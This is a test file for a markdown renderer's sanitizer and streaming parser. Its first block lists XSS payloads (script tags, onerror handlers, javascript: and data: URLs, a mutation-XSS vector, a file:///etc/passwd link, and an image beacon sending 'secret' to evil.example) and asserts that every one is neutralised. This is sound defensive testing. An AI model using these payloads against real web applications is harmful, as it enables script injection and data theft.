import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { MarkdownDocument } from "../src/markdown/document.ts";
import { highlighter } from "../src/markdown/highlighting.ts";
import { highlightCode } from "../src/markdown/languages.ts";
import { render } from "../src/markdown/renderer.ts";
import { clean, marksOnly } from "../src/markdown/sanitize.ts";

function page(markdown: string): HTMLElement {
  const place = document.createElement("div");
  place.innerHTML = render(markdown, { references: {} });
  return place;
}

describe("what a text can not do", () => {
  test.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    '![x](https://evil.example "t\\" onerror=alert(1)")',
    "<javascript:alert(1)>",
    '```js" onmouseover=alert(1)\nx\n```',
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> |\n|:-:|\n| [x](javascript:alert(1)) |",
    "<style>*{display:none}</style>",
    "<form action=/api/auth/logout><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](/api/auth/logout)",
    "[x](//evil.example)",
  ])("%s", (markdown) => {
    const place = page(markdown);
    expect(place.querySelector("script, img, svg, iframe, style, form, math, object, input")).toBeNull();
    for (const element of place.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^(on|style|src|srcdoc|action|data)/);
        if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/);
      }
    }
  });
});

test("links open elsewhere and tell nobody where from", () => {
  const link = page("[x](https://example.org/a?b=c)").querySelector("a");
  expect(link?.getAttribute("href")).toBe("https://example.org/a?b=c");
  expect(link?.target).toBe("_blank");
  expect(link?.rel).toBe("noopener noreferrer nofollow");
});

test("a picture is a link with its words: none is loaded", () => {
  const link = page("![a cat](https://example.org/cat.png)").querySelector("a");
  expect(link?.textContent).toBe("Image: a cat");
  expect(link?.getAttribute("href")).toBe("https://example.org/cat.png");
});

test("the alignment of a table is a class", () => {
  const cells = page("| a | b | c |\n|:-:|--:|---|\n| 1 | 2 | 3 |").querySelectorAll("td");
  expect([...cells].map((cell) => cell.outerHTML)).toEqual([
    '<td class="align-center">1</td>',
    '<td class="align-right">2</td>',
    "<td>3</td>",
  ]);
});

test("references to characters are read by their whole names", () => {
  const place = page("&amp; &copy; &ngE; &#35; &#x1F600; &semi; &notit; &bogus; &nbsp;| &lt;b&gt;");
  expect(place.textContent).toBe("& © ≧̸ # 😀 ; &notit; &bogus; \u00a0| <b>\n");
  expect(place.querySelector("b")).toBeNull();
});

test("code keeps every character and has a button to copy it", () => {
  const code = 'if (a < b && c > "d") {\n  \t`x`\n}\n';
  const place = page(`\`\`\`js\n${code}\`\`\``);
  expect(place.querySelector("pre")?.textContent).toBe(code);
  expect(place.querySelector("button")?.getAttribute("aria-label")).toBe("Copy the code");
});

test("coloured code is the same text, and harmless", () => {
  const code = '<script>alert("x")</script> & <b>';
  for (const language of ["xml", "javascript", "python", "bash", "json", "sql"]) {
    const place = document.createElement("div");
    place.innerHTML = clean(highlightCode(code, language) ?? "");
    expect(place.textContent).toBe(code);
    expect(place.querySelector("script, b")).toBeNull();
  }
  expect(highlightCode("x", "no-such-language")).toBeUndefined();
});

describe("long code", () => {
  const code = 'x = "words"\n'.repeat(300);
  const coloursOf = (markdown: string) => page(markdown).querySelectorAll(".hljs-string").length;
  beforeAll(() => highlighter.set(highlightCode));
  afterAll(() => highlighter.set(undefined));

  test("has the colours of its first lines while it grows, and all of its text", () => {
    const open = page(`\`\`\`python\n${code}`);
    expect(open.querySelector("pre")?.textContent).toBe(code);
    const coloured = open.querySelectorAll(".hljs-string").length;
    expect(coloured).toBeGreaterThan(50);
    expect(coloured).toBeLessThan(200);
    expect(coloursOf(`\`\`\`python\n${code}x = "half a wo`)).toBe(coloured);
  });

  test.each(["", "\n", "\n\nend\n"])("has all of its colours when it is closed: %j", (after) => {
    expect(coloursOf(`\`\`\`python\n${code}\`\`\`${after}`)).toBe(300);
    expect(coloursOf(`- item\n\n  ~~~python\n${code.replace(/^/gm, "  ")}\n  ~~~${after}`)).toBe(300);
    expect(coloursOf(`> \`\`\`python\n${code.replace(/^(?=.)/gm, "> ")}> \`\`\`${after}`)).toBe(300);
  });

  test("may be one long line, and hostile", () => {
    const line = '<img src=x onerror="alert(1)">'.repeat(100);
    const open = page(`\`\`\`xml\n${line}`);
    expect(open.querySelector("pre")?.textContent).toBe(line);
    expect(open.querySelector("img")).toBeNull();
    const lines = page(`\`\`\`xml\n${`${line.slice(0, 90)}\n`.repeat(40)}`);
    expect(lines.querySelector("pre")?.textContent).toBe(`${line.slice(0, 90)}\n`.repeat(40));
    expect(lines.querySelector("img")).toBeNull();
  });
});

test("a snippet keeps its marks and nothing else", () => {
  expect(marksOnly('a <mark>b</mark> <img src=x onerror=alert(1)><mark onclick="x">c</mark>')).toBe(
    "a <mark>b</mark> <mark>c</mark>",
  );
  expect(marksOnly("&lt;script&gt;")).toBe("&lt;script&gt;");
});

describe("a text that grows", () => {
  const WHOLE =
    "# A\n\ntext with [a link][x]\n\n- one\n\n- two\n\n```js\nlet a\n\nlet b\n```\n\n[x]: https://example.org\n\nend\n";

  test("ends as the whole", () => {
    const grown = new MarkdownDocument();
    let html: string[] = [];
    for (let end = 1; end <= WHOLE.length; end += 1) html = grown.update(WHOLE.slice(0, end));
    expect(html.join("")).toBe(render(WHOLE, { references: {} }));
    expect(html.join("")).toContain('href="https://example.org"');
  });

  test("leaves its finished blocks alone, but for a definition that comes late", () => {
    const grown = new MarkdownDocument();
    const before = grown.update(WHOLE.slice(0, WHOLE.indexOf("[x]:")));
    const after = grown.update(WHOLE);
    expect(after[0]).toBe(before[0]);
    expect(after[1]).not.toBe(before[1]);
    expect(after.slice(2, 4)).toEqual(before.slice(2, 4));
  });

  test("begins anew when it does not go on", () => {
    const grown = new MarkdownDocument();
    grown.update("one\n\ntwo\n\nthree");
    expect(grown.update("other").join("")).toBe("<p>other</p>\n");
  });

  test("may have any ends of lines", () => {
    const parts = fc.array(fc.constantFrom("a", "\r", "\n", "\r\n", "- b", "```", "    c"), { maxLength: 20 });
    fc.assert(
      fc.property(parts, (pieces) => {
        const grown = new MarkdownDocument();
        let text = "";
        let html: string[] = [];
        for (const piece of pieces) {
          text += piece;
          html = grown.update(text);
        }
        expect(html.join("")).toBe(render(text, { references: {} }));
      }),
    );
  });
});
